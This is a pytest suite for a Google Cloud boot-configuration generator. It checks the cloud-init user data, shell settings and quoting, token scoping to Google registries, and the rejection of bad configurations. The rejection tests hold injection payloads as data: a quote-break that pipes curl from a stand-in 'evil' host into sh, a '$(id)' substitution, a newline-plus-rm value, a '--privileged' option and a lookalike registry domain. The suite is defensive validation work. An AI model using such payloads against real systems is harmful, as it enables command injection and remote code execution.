"""What a lent machine is told for its boot: whole, quoted, without a secret, or refused."""

from __future__ import annotations

import shlex
import subprocess
from dataclasses import replace
from datetime import timedelta
from importlib import resources
from pathlib import Path
from typing import Any

import pytest
import yaml

from webhook_server.providers.gcp_boot import (
    HOME,
    BootConfig,
    BootKind,
    boot_kind,
    user_data,
)
from webhook_server.providers.provider import Misconfigured

IMAGE = "europe-west4-docker.pkg.dev/acme/cynthus/agent@sha256:" + "a" * 64
CONFIG = BootConfig(
    server_url="https://cynthus.example/", control_plane="cp-1", agent_image=IMAGE, gpu_count=2
)
NAME, LIFE = "cynthus-r1-1", timedelta(hours=3)


def read(config: BootConfig = CONFIG) -> dict[str, Any]:
    text = user_data(NAME, LIFE, config)
    assert text.startswith("#cloud-config\n")  # else cloud-init takes it for something else
    found: dict[str, Any] = yaml.safe_load(text)
    return found


def files(config: BootConfig = CONFIG) -> dict[str, str]:
    return {entry["path"]: entry["content"] for entry in read(config)["write_files"]}


def settings(config: BootConfig = CONFIG) -> dict[str, str]:
    lines = files(config)[f"{HOME}/settings"].splitlines()
    pairs = (line.partition("=") for line in lines)
    return {name: "".join(shlex.split(value)) for name, _, value in pairs}


def test_it_is_a_cloud_config_of_three_files_and_one_unit_that_is_started() -> None:
    found = read()
    assert set(found) == {"write_files", "runcmd"}
    for entry in found["write_files"]:
        assert set(entry) == {"path", "owner", "permissions", "content"}
        assert entry["permissions"] in ("0600", "0644")  # text: a number may be read as octal
    assert found["runcmd"] == [
        ["systemctl", "daemon-reload"],
        ["systemctl", "start", "--no-block", "cynthus.service"],
    ]


def test_the_program_arrives_as_it_is_and_is_the_same_for_everybody() -> None:
    program = resources.files("webhook_server.providers").joinpath("gcp_boot.sh").read_text("utf-8")
    other = replace(CONFIG, kind=BootKind.UBUNTU, agent_image="", gpu_count=0, nodes=3)
    assert files()[f"{HOME}/boot.sh"] == program
    assert files(other)[f"{HOME}/boot.sh"] == program


def test_a_shell_can_read_the_program(tmp_path: Path) -> None:
    program = tmp_path / "boot.sh"
    program.write_text(files()[f"{HOME}/boot.sh"])
    subprocess.run(["sh", "-n", str(program)], check=True)


def test_the_settings_say_what_the_agent_needs() -> None:
    assert settings() == {
        "kind": "cos",
        "instance": NAME,
        "server": "https://cynthus.example",
        "audience": "https://cynthus.example",
        "control_plane": "cp-1",
        "agent_image": IMAGE,
        "registries": "europe-west4-docker.pkg.dev",
        "driver": "",
        "gpu_count": "2",
        "gpu_mode": "cos",
        "nodes": "1",
        "max_life_s": "10800",
        "driver_limit_s": "480",
        "metadata": "http://169.254.169.254",
    }


def test_an_ubuntu_machine_may_fetch_the_agent_from_the_server() -> None:
    found = settings(replace(CONFIG, kind=BootKind.UBUNTU, agent_image=""))
    assert (found["agent_image"], found["gpu_mode"]) == ("", "toolkit")


HOSTILE = "a'; curl http://evil | sh; '"
REFUSED = {
    "an address with a quote": {"server_url": "https://x.example/'$(id)"},
    "an address with a line break": {"server_url": "https://x.example/\nrm"},
    "no address": {"server_url": "cynthus.example"},
    "a control plane with spaces": {"control_plane": HOSTILE},
    "an agent image by tag": {"agent_image": "gcr.io/acme/agent:latest"},
    "an agent image with options": {"agent_image": "--privileged@sha256:" + "a" * 64},
    "a registry that is not Google's": {"registries": ("registry.example",)},
    "a registry that only looks like it": {"registries": ("eu-docker.pkg.dev.evil.example",)},
    "another address for the audience": {"audience": HOSTILE},
    "no agent for an image without Python": {"agent_image": ""},
    "a driver with an option": {"driver": "580 -debug"},
}


@pytest.mark.parametrize("changes", REFUSED.values(), ids=REFUSED.keys())
def test_what_a_shell_or_a_token_must_not_meet_is_refused(changes: dict[str, Any]) -> None:
    with pytest.raises(Misconfigured):
        user_data(NAME, LIFE, replace(CONFIG, **changes))


@pytest.mark.parametrize("name", ["", "Cynthus-1", "a;b", "a" * 64, "cynthus-1-", "a\nb"])
def test_a_name_that_no_instance_can_have_is_refused(name: str) -> None:
    with pytest.raises(Misconfigured):
        user_data(name, LIFE, CONFIG)


def test_the_machines_token_goes_to_googles_registries_only() -> None:
    public = replace(CONFIG, agent_image="ghcr.io/acme/agent@sha256:" + "a" * 64)
    assert settings(public)["registries"] == ""
    more = replace(CONFIG, registries=("us-docker.pkg.dev", "europe-west4-docker.pkg.dev"))
    assert settings(more)["registries"] == "europe-west4-docker.pkg.dev us-docker.pkg.dev"


def test_it_fits_into_the_metadata_many_times() -> None:
    # https://cloud.google.com/compute/docs/metadata/setting-custom-metadata#limitations: 256 KB
    assert len(user_data(NAME, LIFE, CONFIG)) < 32 * 1024


@pytest.mark.parametrize(
    ("image", "kind"),
    [
        ("projects/cos-cloud/global/images/family/cos-stable", BootKind.COS),
        ("projects/cos-cloud/global/images/cos-117-18613-0-1", BootKind.COS),
        (
            "projects/ubuntu-os-accelerator-images/global/images/family/"
            "ubuntu-accelerator-2404-amd64-with-nvidia-580",
            BootKind.UBUNTU,
        ),
    ],
)
def test_the_boot_image_says_what_it_is(image: str, kind: BootKind) -> None:
    assert boot_kind(image) is kind


@pytest.mark.parametrize(
    ("changes", "told"),
    [
        ({"driver": ""}, ""),
        ({"driver": "580"}, "R580"),
        ({"driver": "580.126.09"}, "580.126.09"),
        ({"driver": "580", "kind": BootKind.UBUNTU}, ""),  # it is there, nothing is installed
    ],
)
def test_the_promised_driver_is_the_one_that_is_installed(
    changes: dict[str, Any], told: str
) -> None:
    assert settings(replace(CONFIG, **changes))["driver"] == told


def test_the_machine_has_time_to_report_before_the_plug_is_pulled() -> None:
    unit = files()["/etc/systemd/system/cynthus.service"].splitlines()
    limits = [int(line.partition("=")[2]) for line in unit if line.startswith("TimeoutStopSec=")]
    assert len(limits) == 1
    assert 25 < limits[0] < 30
    after = next(line for line in unit if line.startswith("After="))
    assert "docker.service" in after  # so it is ended before Docker, and its containers
